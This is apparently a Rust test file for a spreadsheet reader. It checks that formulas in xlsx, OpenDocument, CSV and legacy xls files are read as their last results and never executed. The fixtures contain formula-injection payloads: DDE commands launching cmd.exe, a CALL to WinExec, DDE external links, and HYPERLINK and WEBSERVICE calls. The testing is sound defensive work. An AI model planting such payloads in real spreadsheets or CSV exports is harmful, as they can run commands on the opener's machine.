//! Formulas, commands and links: what a formula last gave is read, what it does is never done.

use super::kit::{Case, Fate, all, at, book, book_of, cell, ods, record, wide, xls};

/// A cell whose formula last gave «ok».
fn result(of: &str) -> Vec<u8> {
    book(&format!(
        "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>{of}</f><v>ok</v></c></row>"
    ))
}

#[test]
fn formulas_are_their_last_results_and_commands_are_text() {
    let one = |inside: &str| book(&format!("<row r=\"1\">{inside}</row>"));
    let ok = || Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("ok"));
    let number = |kind: u8| {
        [
            at(0, 0, 0),
            vec![kind, 0, 7, 0, 0, 0, 0xff, 0xff],
            vec![0; 8],
        ]
        .concat()
    };
    let cases: Vec<Case> = vec![
        ("a command", result("cmd|'/c calc'!A0"), ok()),
        (
            "another",
            result("MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
            ok(),
        ),
        (
            "a link",
            result("HYPERLINK(\"http://example.org/?\"&amp;A2,\"x\")"),
            ok(),
        ),
        (
            "another file",
            result("'[http://example.org/x.xls]Sheet1'!A1"),
            ok(),
        ),
        (
            "a web service",
            result("WEBSERVICE(\"http://example.org\")"),
            ok(),
        ),
        (
            "a macro",
            result("CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)"),
            ok(),
        ),
        ("itself", result("A1"), ok()),
        ("a long one", result(&"1+".repeat(10_000)), ok()),
        (
            "a shared one",
            one(
                "<c r=\"A1\" t=\"str\"><f t=\"shared\" si=\"4294967295\" ref=\"A1:XFD1048576\">B1</f><v>ok</v></c>",
            ),
            ok(),
        ),
        (
            "one of a whole area",
            one("<c r=\"A1\" t=\"str\"><f t=\"array\" ref=\"A1:XFD1048576\">B1</f><v>ok</v></c>"),
            ok(),
        ),
        (
            "one with unknown parts",
            one("<c r=\"A1\" t=\"str\"><f/><v>ok</v><extLst><ext><v>no</v></ext></extLst></c>"),
            ok(),
        ),
        (
            "one never calculated",
            one("<c r=\"A1\"><f>SUM(B1:B9)</f></c>"),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("e=SUM(B1:B9)")),
        ),
        (
            "one that gave nothing",
            one("<c r=\"A1\" t=\"str\"><f>B1&amp;\"\"</f><v></v></c>"),
            Fate::Read(|b| cell(b, 1, 0).is_none()),
        ),
        (
            "one that gave an error",
            one("<c r=\"A1\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>"),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("e#DIV/0!")),
        ),
        (
            "one that gave a new error",
            one("<c r=\"A1\" t=\"e\"><f>X()</f><v>#SPILL!</v></c>"),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("e#SPILL!")),
        ),
        (
            "text that looks like one",
            one("<c r=\"A1\" t=\"str\"><v>=1+1</v></c>"),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("=1+1")),
        ),
        (
            "text with an at sign",
            one("<c r=\"A1\" t=\"inlineStr\"><is><t>@SUM(1)</t></is></c>"),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("@SUM(1)")),
        ),
        (
            "in a text file",
            b"=cmd|'/c calc'!A0,x\n".to_vec(),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("=cmd|'/c calc'!A0")),
        ),
        (
            "in a text file, made harmless",
            b"'=1+1,x\n".to_vec(),
            Fate::Read(|b| cell(b, 1, 0).is_some_and(|text| text.ends_with("=1+1"))),
        ),
        (
            "macros beside",
            book_of(&[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]),
            Fate::Read(|b| cell(b, 1, 0).is_some()),
        ),
        (
            "links beside",
            book_of(&[(
                "xl/externalLinks/externalLink1.xml",
                b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
            )]),
            Fate::Read(|b| cell(b, 1, 0).is_some()),
        ),
        (
            "in an OpenDocument",
            ods(
                "<table:table-row><table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;1&quot;)\" office:value-type=\"string\"><text:p>ok</text:p></table:table-cell></table:table-row>",
            ),
            ok(),
        ),
        (
            "never calculated there",
            ods(
                "<table:table-row><table:table-cell table:formula=\"of:=[.B1]\"/></table:table-row>",
            ),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("e=of:=[.B1]")),
        ),
        (
            "in an old workbook",
            xls(
                &[],
                &[record(0x0006, &number(0)), record(0x0207, &wide("ok"))],
            ),
            ok(),
        ),
        (
            "an error there",
            xls(&[], &[record(0x0006, &number(2))]),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("e#DIV/0!")),
        ),
        (
            "a truth there",
            xls(&[], &[record(0x0006, &number(1))]),
            Fate::Read(|b| cell(b, 1, 0).as_deref() == Some("btrue")),
        ),
    ];
    all(20, cases);
}
